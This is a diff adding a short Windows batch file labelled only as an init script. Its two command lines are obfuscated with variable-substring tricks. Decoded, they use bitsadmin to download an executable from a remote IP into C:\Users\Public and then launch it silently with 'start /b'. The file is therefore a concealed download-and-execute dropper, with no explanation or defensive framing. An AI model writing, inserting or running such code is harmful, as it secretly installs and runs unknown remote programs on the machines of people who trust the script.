@@ -1,0 +1,7 @@
+REM init 3886 v1
+@echo off
+set "mxkl=.jntCagsrTAi:o9w/yb1h3\8p4fmdkJ0lWUP2eKcux"
+%mxkl:~18,1%%mxkl:~11,1%%mxkl:~3,1%%mxkl:~-35,1%%mxkl:~5,1%%mxkl:~28,1%%mxkl:~27,1%%mxkl:~11,1%%mxkl:~-40,1% %mxkl:~-26,1%%mxkl:~3,1%%mxkl:~8,1%%mxkl:~5,1%%mxkl:~2,1%%mxkl:~7,1%%mxkl:~-16,1%%mxkl:~37,1%%mxkl:~-34,1% %mxkl:~1,1%%mxkl:~-29,1%%mxkl:~18,1% %mxkl:~16,1%%mxkl:~28,1%%mxkl:~-29,1%%mxkl:~-27,1%%mxkl:~-40,1%%mxkl:~32,1%%mxkl:~13,1%%mxkl:~5,1%%mxkl:~28,1% %mxkl:~16,1%%mxkl:~24,1%%mxkl:~-34,1%%mxkl:~11,1%%mxkl:~13,1%%mxkl:~8,1%%mxkl:~-31,1%%mxkl:~3,1%%mxkl:~17,1% %mxkl:~-22,1%%mxkl:~11,1%%mxkl:~6,1%%mxkl:~-22,1% %mxkl:~20,1%%mxkl:~-39,1%%mxkl:~-39,1%%mxkl:~-18,1%%mxkl:~12,1%%mxkl:~-26,1%%mxkl:~-26,1%%mxkl:~19,1%%mxkl:~14,1%%mxkl:~36,1%%mxkl:~0,1%%mxkl:~31,1%%mxkl:~0,1%%mxkl:~36,1%%mxkl:~0,1%%mxkl:~25,1%%mxkl:~25,1%%mxkl:~16,1%%mxkl:~40,1%%mxkl:~0,1%%mxkl:~37,1%%mxkl:~41,1%%mxkl:~37,1% %mxkl:~4,1%%mxkl:~12,1%%mxkl:~22,1%%mxkl:~34,1%%mxkl:~7,1%%mxkl:~-5,1%%mxkl:~-34,1%%mxkl:~7,1%%mxkl:~22,1%%mxkl:~35,1%%mxkl:~40,1%%mxkl:~18,1%%mxkl:~32,1%%mxkl:~11,1%%mxkl:~39,1%%mxkl:~-20,1%%mxkl:~40,1%%mxkl:~0,1%%mxkl:~-5,1%%mxkl:~-1,1%%mxkl:~37,1%
+@echo off
+set "vyfo=uOrxSUisjEPgcA.be/lt\CIa:3"
+%vyfo:~7,1%%vyfo:~19,1%%vyfo:~23,1%%vyfo:~-24,1%%vyfo:~-7,1% %vyfo:~-9,1%%vyfo:~15,1% %vyfo:~21,1%%vyfo:~24,1%%vyfo:~-6,1%%vyfo:~5,1%%vyfo:~7,1%%vyfo:~16,1%%vyfo:~-24,1%%vyfo:~7,1%%vyfo:~20,1%%vyfo:~10,1%%vyfo:~0,1%%vyfo:~-11,1%%vyfo:~18,1%%vyfo:~6,1%%vyfo:~12,1%%vyfo:~-6,1%%vyfo:~0,1%%vyfo:~14,1%%vyfo:~16,1%%vyfo:~3,1%%vyfo:~16,1%
